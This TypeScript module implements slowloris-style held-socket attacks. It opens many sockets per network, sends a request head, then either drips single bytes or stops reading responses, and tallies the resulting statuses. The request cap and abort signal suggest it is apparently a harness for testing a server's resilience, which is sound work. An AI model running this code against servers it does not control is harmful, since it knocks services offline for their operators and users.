/** Attacks by sockets that are held: 24 of each network, opened again whenever they end. */
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, MOST_REQUESTS, networks, SOCKETS, type Target, tally } from "./target";

type Held = {
	/** What a socket sends first, of a caller at this address. */
	readonly head: (target: Target, from: string) => string;
	/** Goes on with the socket; called once the head is sent. Answers how to stop that. */
	readonly goOn: (socket: Socket) => () => void;
};

export function bySockets({ head, goOn }: Held): Attack {
	return async (target) => {
		const { count, answered } = tally();
		let requests = 0;
		const hold = async (from: () => string) => {
			while (!target.stop.aborted && requests < MOST_REQUESTS) {
				requests += 1;
				count(await holdOne(target, head(target, from()), goOn));
				await sleep(50);
			}
		};
		await Promise.all(networks.flatMap((from) => Array.from({ length: SOCKETS }, () => hold(from))));
		return { requests, sockets: networks.length * SOCKETS, answered: answered() };
	};
}

/** What became of it. */
async function holdOne({ origin, stop }: Target, head: string, goOn: Held["goOn"]): Promise<string> {
	const { hostname, port } = new URL(origin);
	const socket = connect(Number(port), hostname);
	const closed = new Promise((resolve) => socket.once("close", resolve));
	let what = "";
	socket.on("error", () => undefined);
	socket.once("data", (first: Buffer) => {
		what = /^HTTP\/1\.1 (\d{3})/.exec(first.toString("latin1"))?.[1] ?? "";
	});
	socket.write(head);
	const letGo = goOn(socket);
	const end = () => {
		what ||= "held";
		socket.destroy();
	};
	stop.addEventListener("abort", end, { once: true });
	if (stop.aborted) end();
	await closed;
	stop.removeEventListener("abort", end);
	letGo();
	return what || "cut";
}

/** A byte now and then, and whatever comes is read. */
export function drip(socket: Socket): () => void {
	const dripping = setInterval(() => socket.write(" "), 500);
	return () => clearInterval(dripping);
}

/** Reads what tells the status, and nothing more. */
export function neverRead(socket: Socket): () => void {
	socket.once("data", () => socket.pause());
	return () => undefined;
}
